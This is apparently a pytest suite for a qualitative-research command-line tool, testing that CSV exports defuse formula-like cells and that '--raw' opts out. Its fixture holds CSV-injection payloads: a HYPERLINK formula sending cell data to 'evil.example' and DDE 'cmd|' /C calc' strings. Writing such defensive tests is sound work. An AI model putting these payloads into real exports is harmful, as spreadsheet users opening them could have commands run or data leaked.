"""Issue 25 §4: every CSV the command line writes defuses formula-like cells (OWASP CSV
injection), including a quote that starts with a line break or blanks before '=', and ``--raw``
opts out."""

from __future__ import annotations

import contextlib
import csv
import io

import pytest

from cli import main
from coding import add_code, add_memo, code_span
from corpus.model import Document, paragraphs_from_text, sha256_bytes
from corpus.store import store_document
from interviews import ensure_case, set_attribute

# what a spreadsheet may run: starts with = + - @ (or full-width forms), a tab or a carriage
# return, or with blanks / line breaks before one of = + - @
DANGEROUS_FIRST = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
TEXT = (
    '=HYPERLINK("http://evil.example/?q="&A1,"click") is what the ficticio witness typed.\n'
    "\n=1+1 after a line break, in a fictional interview.\n"
    "  @SUM(1+1)*cmd|' /C calc'!A0 with spaces before.\n"
    "\t-2+3+cmd|' /C calc'!A0 after a tab.\n"
    "+cmd|' /C calc'!A0 and an ordinary sentence about training councils."
)


def _dangerous(cell: str) -> bool:
    if cell.startswith(("\t", "\r")):
        return True
    stripped = cell.lstrip()
    if not stripped.startswith(DANGEROUS_FIRST):
        return False
    try:
        float(cell)  # a plain number written as text ("-3") is not a formula
        return False
    except ValueError:
        return True


@pytest.fixture
def hostile(db, project_path):
    doc = Document(
        text=TEXT,
        title="=cmd|' /C calc'!A0 (fictional title)",
        source_name="hostile.txt",
        file_type="txt",
        segments=paragraphs_from_text(TEXT),
        language="en",
    )
    doc.sha256, doc.size = sha256_bytes(TEXT.encode()), len(TEXT)
    doc_id = store_document(db, doc)
    code = add_code(db, "=cmd()", definition="+1 formula-looking definition", coder="@ana")
    # quotes starting with '=', a line break before '=', spaces before '@', a tab before '-'
    first_break = TEXT.index("\n=")
    spans = [(0, 20), (first_break, first_break + 10)]
    spans.append((TEXT.index("  @"), TEXT.index("  @") + 12))
    spans.append((TEXT.index("\t-"), TEXT.index("\t-") + 12))
    for start, end in spans:
        code_span(db, doc_id, start, end, code, "@ana", memo="=memo()")
    add_memo(db, '\n=HYPERLINK("http://evil.example")', "@ana", title="-title")
    case = ensure_case(db, "@SUM(1)")
    set_attribute(db, case, "=role", "+cmd|' /C calc'!A0")
    set_attribute(db, case, "age", "-3")
    return project_path


COMMANDS = [
    ["codings"],
    ["memos"],
    ["search", "calc"],
    ["codes", "list"],
    ["interviews", "cases"],
]


def _run(capsys, argv: list[str]) -> list[list[str]]:
    assert main(argv) == 0
    out = capsys.readouterr().out
    return list(csv.reader(io.StringIO(out, newline="")))


def _cells(rows: list[list[str]]) -> list[str]:
    return [c for r in rows for c in r]


@pytest.mark.parametrize("command", COMMANDS, ids=lambda c: " ".join(c))
def test_cli_csv_defuses_every_formula_like_cell(hostile, capsys, command):
    argv = [*command, "--project", str(hostile), "--format", "csv"]
    cells = _cells(_run(capsys, argv))
    assert [c for c in cells if _dangerous(c)] == []
    assert any(c.startswith("'") for c in cells), "the hostile values must be in the output"
    raw = _cells(_run(capsys, [*argv, "--raw"]))
    assert any(_dangerous(c) for c in raw), "--raw writes the cells exactly as they are"


def test_cli_attributes_export_defuses_and_reads_back(hostile, capsys, db, tmp_path):
    rows = _run(capsys, ["interviews", "attributes", "export", "--project", str(hostile)])
    cells = _cells(rows)
    assert [c for c in cells if _dangerous(c)] == []
    assert "'@SUM(1)" in cells and "'=role" in cells and "'+cmd|' /C calc'!A0" in cells
    assert "-3" in cells  # a number is not a formula
    out = tmp_path / "attributes.csv"
    argv = ["interviews", "attributes", "export", "--project", str(hostile), "--out", str(out)]
    assert main(argv) == 0
    # reading our own file back gives the values as they were, not with a leading '
    assert main(["interviews", "attributes", "import", str(out), "--project", str(hostile)]) == 0
    from interviews import case_attributes_frame

    frame = case_attributes_frame(db)
    assert list(frame["case_name"]) == ["@SUM(1)"]
    assert frame["=role"].tolist() == ["+cmd|' /C calc'!A0"]
    raw = _cells(_run(capsys, [*argv[:-2], "--raw"]))
    assert "@SUM(1)" in raw


def test_cli_codes_export_and_import_round_trip(hostile, tmp_path, db):
    out = tmp_path / "codebook.csv"
    assert main(["codes", "export", "--project", str(hostile), "--out", str(out)]) == 0
    cells = _cells(list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"), newline=""))))
    assert [c for c in cells if _dangerous(c)] == []
    assert main(["codes", "import", str(out), "--project", str(hostile)]) == 0
    from coding import codes_frame

    assert codes_frame(db)["path"].tolist() == ["=cmd()"]  # no "'=cmd()" code was made


def test_defuse_cell_rules():
    from projectfile import defuse_cell, restore_cell

    for value in ["=1", "\n=1", "  @x", "\t-x", "\r=1", " \n +x", "\uff1dSUM(1)"]:
        assert defuse_cell(value) == "'" + value
        assert restore_cell(defuse_cell(value)) == value
    for value in ["-3", "+1.5", "plain", "\nplain", "a=b", 5, None]:
        assert defuse_cell(value) == value
    assert restore_cell("'plain") == "'plain"  # only our own prefix is taken off


def test_every_print_frame_command_has_raw():
    """Each command with --format also takes --raw, so the opt-out is the same everywhere."""
    import argparse

    from cli import build_parser

    missing = []

    def walk(parser, name):
        for action in parser._actions:
            if isinstance(action, argparse._SubParsersAction):
                for sub, p in action.choices.items():
                    walk(p, f"{name} {sub}")
        dests = {a.dest for a in parser._actions}
        if "format" in dests and "raw" not in dests and "csv" in _choices(parser):
            missing.append(name)

    def _choices(parser):
        for a in parser._actions:
            if a.dest == "format":
                return a.choices or ()
        return ()

    with contextlib.suppress(SystemExit):
        walk(build_parser(), "cli.py")
    assert missing == []
